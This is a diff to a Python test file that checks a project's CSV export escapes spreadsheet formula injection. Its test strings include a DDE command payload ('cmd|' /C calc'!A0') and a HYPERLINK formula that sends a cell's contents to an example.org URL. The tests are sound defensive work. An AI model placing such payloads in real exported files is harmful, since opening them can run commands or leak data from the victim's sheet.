@@ -7,15 +7,38 @@ import hashlib
 import io
 import json
 import re
+from pathlib import Path
 
 import pytest
 
-from bot.cli import bibtex, export
+from bot.cli import bibtex, export, export_seeds
 from bot.cli.export import EXPORTED
+from bot.cli.main import yrd
+from bot.state.contributions import StoredContributions
+from bot.state.store import Store
+from handlers.curation.projection import replay
+from knowledge import build
 from knowledge.base import FactBase
 from knowledge.model import Document
 from knowledge.seeds import Seeds
+from tests.cli.test_export_seeds import PAGE, approved, record
+from tests.conftest import SEEDS
 from tests.knowledge.papers import PAPER
+
+BLANKS = ("", " ", "\t", "\u3000", "\u200b", "\ufeff", " \u202e ")
+SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "⁼")
+FORMULA = r"[\s\u200b\ufeff\u202e]*[=+\-@＝＋－＠﹢⁼\t\r\n]"
+BEHIND = (
+    'HYPERLINK("https://example.org","x")',
+    "1+2",
+    "cmd|' /C calc'!A0",
+    "",
+    "SUM(A1)\r\n=2",
+    "'",
+    "2018-2019",
+)
+NUMBERS = ("-2.5", "+3", "1e5", "-1E-5", "-12%", "+12 %", "-1,200.5", "-.5", " -7 ")
+PLAIN = ("", "Hangzhou", "a = b", "'quoted'", "'tis", "2018-2019", "“=1”", "a\rb", "a\n=b", "—", "−2", "·@")
 
 
 def written(base: FactBase, what: str, form: str = "jsonl") -> str:
@@ -49,10 +72,100 @@ def test_csv_holds_the_same_with_lists_as_json_in_the_cell(base: FactBase, what:
     for row, line in zip(rows, lines, strict=True):
         assert row.keys() == line.keys()
         for key, value in line.items():
-            as_text = row[key]
-            assert (json.loads(as_text) if isinstance(value, list | dict | bool) else as_text) == (
-                value if isinstance(value, list | dict | bool) else "" if value is None else str(value)
-            )
+            assert value_of(row[key], value) == ("" if value is None else value)
+
+
+def value_of(text: str, like: object) -> object:
+    """What a program reads in a cell, knowing of which type it was."""
+    if isinstance(like, list | dict | bool):
+        return json.loads(text)
+    if isinstance(like, int | float):
+        return type(like)(text)
+    return text[1:] if re.match("'+" + FORMULA, text) else text
+
+
+def through_a_file(*values: object) -> list[str]:
+    """What a reader of CSV finds in a row of these values."""
+    target = io.StringIO(newline="")
+    export.write_csv([{str(at): value for at, value in enumerate(values)}], target)
+    return list(next(csv.DictReader(io.StringIO(target.getvalue(), newline=""))).values())
+
+
+@pytest.mark.parametrize("blank", BLANKS)
+@pytest.mark.parametrize("sign", SIGNS)
+def test_no_text_is_a_formula_in_a_spreadsheet_and_each_can_be_read_back(blank: str, sign: str) -> None:
+    for quotes in ("", "'", "''"):
+        texts = [f"{quotes}{blank}{sign}{behind}" for behind in BEHIND]
+        for text, found in zip(texts, through_a_file(*texts), strict=True):
+            assert found == "'" + text
+
+
+@pytest.mark.parametrize(
+    "text", ["\tx", "\rx", "\nx", "\r\n", "'\tx", "-0+1", "+86 571 8888", "＋3", "-", "- 5", "-１"]
+)
+def test_what_begins_with_an_end_of_a_cell_or_only_looks_like_a_number_is_quoted(text: str) -> None:
+    assert list(through_a_file(text)) == ["'" + text]
+
+
+@pytest.mark.parametrize("value", [*NUMBERS, *PLAIN, -2.5, -3, 1e-5, 0])
+def test_numbers_stay_numbers_and_other_text_stays_as_it_is(value: object) -> None:
+    assert list(through_a_file(value, "end")) == [str(value), "end"]
+
+
+@pytest.mark.parametrize("what", EXPORTED)
+def test_only_csv_begins_with_a_byte_order_mark_and_only_when_it_is_asked_for(
+    base: FactBase, what: str
+) -> None:
+    marked = io.StringIO()
+    export.write(base, what, "csv", marked, bom=True)
+    assert marked.getvalue() == "\ufeff" + written(base, what, "csv")
+    assert "\ufeff" not in written(base, what, "csv") + written(base, what)
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ["facts"],
+        ["facts", "--format", "jsonl"],
+        ["documents", "--format", "bibtex"],
+        ["contributions", "--to", "x"],
+    ],
+)
+def test_a_byte_order_mark_is_for_csv_alone(
+    arguments: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(SystemExit, match="2"):
+        yrd.main(["export", *arguments, "--bom"])
+    assert capsys.readouterr().err == "--bom is for CSV alone: yrd export facts --format csv --bom.\n"
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "＝"])
+def test_what_an_approved_proposal_says_is_no_formula_in_what_is_exported(
+    base: FactBase, tmp_path: Path, first: str
+) -> None:
+    hostile = (
+        first + 'HYPERLINK("https://example.org/?x="&A1,"Ningbo and Hefei opened a joint harbour office")'
+    )
+    draft = PAGE.model_copy(
+        update={"statement": hostile, "speaker": f"{first}1+2", "caveat": f"{first}A1", "title": f"{first}B2"}
+    )
+    store = Store.open(tmp_path / "state.db")
+    for event in approved(draft):
+        record(store, event)
+    kept = replay(StoredContributions(store).events("T1"))
+    store.close()
+    assert export_seeds.write(base, kept, SEEDS, tmp_path / "seeds") == 0
+    build.build(tmp_path / "seeds", tmp_path / "facts.db")
+    theirs = FactBase.open(tmp_path / "facts.db")
+    said: list[str] = []
+    for what in EXPORTED:
+        for row in csv.DictReader(io.StringIO(written(theirs, what, "csv"), newline="")):
+            said += row.values()
+            assert not [
+                text for text in row.values() if re.match(FORMULA, text) and text.strip("-.0123456789")
+            ]
+    assert {f"'{hostile}", f"'{first}1+2", f"'{first}A1", f"'{first}B2"} <= set(said)
 
 
 def test_a_fact_says_where_it_comes_from(base: FactBase) -> None:
